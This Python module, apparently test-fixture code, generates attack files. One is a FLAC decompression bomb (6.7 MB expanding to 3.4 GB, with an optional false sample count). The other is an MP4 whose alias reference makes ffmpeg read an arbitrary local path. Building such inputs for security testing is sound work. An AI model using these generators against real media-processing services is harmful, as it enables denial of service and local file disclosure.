"""Files that attack whoever opens them, made byte by byte."""

from itertools import pairwise
from pathlib import Path

import numpy as np
from numpy.typing import NDArray

_BLOCK = 4096
_RATE_HZ = 48_000


def silent_flac(path: Path, *, hours: float, stated_samples: int | None = None) -> Path:
    """Write hours of silence as FLAC, 16 bytes a frame: ten hours are 6.7 MB, and 3.4 GB once decoded.

    Args:
        path: The file to write, returned.
        hours: How long it plays.
        stated_samples: What its header says instead; 0 is "unknown" (RFC 9639 §8.2).
    """
    frames = round(hours * 3600 * _RATE_HZ / _BLOCK)
    stated = frames * _BLOCK if stated_samples is None else stated_samples
    packed = _RATE_HZ << 44 | 0 << 41 | 15 << 36 | stated  # rate, channels - 1, bits - 1, samples
    streaminfo = _BLOCK.to_bytes(2, "big") * 2 + bytes(6) + packed.to_bytes(8, "big") + bytes(16)
    numbers = np.arange(frames)
    bounds = (0, 0x80, 0x800, 0x10000, 0x200000)  # where the UTF-8-like frame number grows by a byte
    body = b"".join(
        _frames(numbers[low:high], size + 1).tobytes() for size, (low, high) in enumerate(pairwise(bounds))
    )
    path.write_bytes(b"fLaC\x80" + len(streaminfo).to_bytes(3, "big") + streaminfo + body)
    return path


def _frames(numbers: NDArray[np.int64], number_bytes: int) -> NDArray[np.uint8]:
    """Return one frame a row: header with CRC-8, a constant subframe of zeros, CRC-16 (RFC 9639 §9)."""
    header = 4 + number_bytes
    rows = np.zeros((len(numbers), header + 1 + 3 + 2), np.uint8)
    rows[:, :4] = (0xFF, 0xF8, 0xCA, 0x08)  # fixed blocks of 4096, 48 kHz, mono, 16 bits
    if number_bytes == 1:
        rows[:, 4] = numbers
    else:
        lead = 0xFF << (8 - number_bytes) & 0xFF
        rows[:, 4] = lead | numbers >> 6 * (number_bytes - 1)
        for index in range(1, number_bytes):
            rows[:, 4 + index] = 0x80 | numbers >> 6 * (number_bytes - 1 - index) & 0x3F
    rows[:, header] = _crc(rows[:, :header], 0x07, 8)
    check = _crc(rows[:, :-2], 0x8005, 16)
    rows[:, -2], rows[:, -1] = check >> 8, check & 0xFF
    return rows


def _crc(rows: NDArray[np.uint8], polynomial: int, bits: int) -> NDArray[np.int64]:
    """Return the checksum of each row, computed for all rows at once."""
    table = np.arange(256) << (bits - 8)
    for _ in range(8):
        table = (table << 1 ^ np.where(table >> (bits - 1) & 1, polynomial, 0)) & (1 << bits) - 1
    check = np.zeros(len(rows), np.int64)
    for column in rows.T:
        check = (check << 8 & (1 << bits) - 1) ^ table[check >> (bits - 8) ^ column]
    return check


def mp4_with_outside_reference(path: Path, target: str) -> Path:
    """Write an MP4 whose sound lies, so it says, in another file.

    The reference is a Macintosh alias (`dref` of type `alis`), the kind that ffmpeg follows if it is let.

    Args:
        path: The file to write, returned.
        target: Absolute path of the file it refers to.
    """

    def box(kind: bytes, *parts: bytes) -> bytes:
        body = b"".join(parts)
        return (8 + len(body)).to_bytes(4, "big") + kind + body

    def numbers(*values: int) -> bytes:
        return b"".join(value.to_bytes(4, "big") for value in values)

    matrix = numbers(0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
    name = target.encode() + bytes(len(target.encode()) % 2)
    absolute_path = (2).to_bytes(2, "big") + len(name).to_bytes(2, "big") + name
    # Volume, file name and dates stay blank: 150 bytes before the first record.
    reference = box(b"alis", numbers(0), bytes(150), absolute_path, b"\xff\xff\0\0")
    sample_entry = box(
        b"sowt", bytes(6), (1).to_bytes(2, "big"), bytes(8), numbers(0x00010010, 0, 48_000 << 16)
    )
    table = box(
        b"stbl",
        box(b"stsd", numbers(0, 1), sample_entry),
        box(b"stts", numbers(0, 1, 48_000, 1)),
        box(b"stsc", numbers(0, 1, 1, 48_000, 1)),
        box(b"stsz", numbers(0, 2, 48_000)),
        box(b"stco", numbers(0, 1, 0)),
    )
    media = box(
        b"mdia",
        box(b"mdhd", numbers(0, 0, 0, 48_000, 48_000, 0x55C40000)),
        box(b"hdlr", numbers(0, 0), b"soun", bytes(12), b"\0"),
        box(
            b"minf",
            box(b"smhd", numbers(0, 0)),
            box(b"dinf", box(b"dref", numbers(0, 1), reference)),
            table,
        ),
    )
    track = box(
        b"trak",
        box(b"tkhd", numbers(1, 0, 0, 1, 0, 48_000, 0, 0, 0, 0x01000000), matrix, numbers(0, 0)),
        media,
    )
    movie = box(
        b"moov",
        box(
            b"mvhd",
            numbers(0, 0, 0, 48_000, 48_000, 0x10000, 0x01000000, 0, 0),
            matrix,
            bytes(24),
            numbers(2),
        ),
        track,
    )
    path.write_bytes(box(b"ftyp", b"qt  ", numbers(0), b"qt  ") + movie)
    return path
